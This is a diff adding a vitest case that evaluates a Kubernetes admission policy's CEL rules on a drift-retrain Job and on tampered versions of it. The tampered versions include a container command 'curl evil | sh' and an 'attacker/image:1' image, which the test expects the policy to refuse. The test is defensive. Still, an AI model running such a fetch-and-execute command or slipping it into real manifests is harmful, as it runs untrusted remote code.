@@ -3,6 +3,7 @@
  * declares and checks it against the Kubernetes OpenAPI schema (kubernetes-models, and the
  * Prometheus Operator's CRD schemas), then asserts the hardening and wiring on the rendered objects.
  */
+import { evaluate } from "@marcbachmann/cel-js";
 import { beforeAll, describe, expect, it } from "vitest";
 import * as YAML from "yaml";
 import * as fs from "node:fs";
@@ -459,6 +460,48 @@ describe.each(["dev", "prod"] as const)("workloads of the %s stack", (stack) => 
       policyName: "fraud-drift-retrain-jobs",
       validationActions: ["Deny"],
     });
+  });
+
+  it("admits from drift-retrain only the Job kubectl create job --from=cronjob/fraud-trainer would make (the policy's CEL, evaluated)", () => {
+    const policy = find("ValidatingAdmissionPolicy", "fraud-drift-retrain-jobs").spec;
+    const matches = (username: string): boolean =>
+      policy.matchConditions.every((c: any) => evaluate(c.expression, { request: { userInfo: { username } } }) === true);
+    expect(matches(`system:serviceaccount:${NAMESPACES.training}:fraud-drift-retrain`)).toBe(true);
+    // a person or the CronJob controller is not held by it
+    expect(matches("system:serviceaccount:kube-system:cronjob-controller")).toBe(false);
+    const refused = (job: Obj): string[] =>
+      policy.validations.filter((v: any) => evaluate(v.expression, { object: job }) !== true).map((v: any) => v.message);
+    const trainer = find("CronJob", "fraud-trainer", NAMESPACES.training);
+    // what app/src/retrain/decide.ts's jobFromCronJob builds
+    const job: Obj = {
+      apiVersion: "batch/v1",
+      kind: "Job",
+      metadata: {
+        name: "fraud-trainer-drift-1764590400",
+        namespace: NAMESPACES.training,
+        ownerReferences: [{ apiVersion: "batch/v1", kind: "CronJob", name: "fraud-trainer", uid: "u-1", controller: true }],
+      },
+      spec: structuredClone(trainer.spec.jobTemplate.spec),
+    };
+    expect(refused(job)).toEqual([]);
+    const changed = (edit: (j: any) => void): string[] => {
+      const j = structuredClone(job);
+      edit(j);
+      return refused(j);
+    };
+    expect(changed((j) => (j.spec.template.spec.serviceAccountName = "fraud-drift-retrain"))).toEqual([
+      "a drift-retrain Job runs as fraud-trainer",
+    ]);
+    expect(changed((j) => delete j.spec.template.spec.serviceAccountName)).toEqual(["a drift-retrain Job runs as fraud-trainer"]);
+    const imageOnly = ["a drift-retrain Job runs the trainer's image and command only"];
+    expect(changed((j) => (j.spec.template.spec.containers[0].image = "attacker/image:1"))).toEqual(imageOnly);
+    expect(changed((j) => (j.spec.template.spec.containers[0].command = ["sh", "-c", "curl evil | sh"]))).toEqual(imageOnly);
+    expect(changed((j) => j.spec.template.spec.containers.push({ ...j.spec.template.spec.containers[0], image: "x" }))).toEqual(imageOnly);
+    expect(changed((j) => (j.spec.template.spec.initContainers = [{ name: "i", image: "attacker/image:1" }]))).toEqual(imageOnly);
+    const owned = ["a drift-retrain Job is owned by the fraud-trainer CronJob"];
+    expect(changed((j) => delete j.metadata.ownerReferences)).toEqual(owned);
+    expect(changed((j) => (j.metadata.ownerReferences[0].controller = false))).toEqual(owned);
+    expect(changed((j) => (j.metadata.ownerReferences[0].name = "fraud-challenger-compare"))).toEqual(owned);
     expect(find("RoleBinding", "fraud-drift-retrain", NAMESPACES.training)).toMatchObject({
       roleRef: { kind: "Role", name: "fraud-drift-retrain" },
       subjects: [{ kind: "ServiceAccount", name: "fraud-drift-retrain", namespace: NAMESPACES.training }],
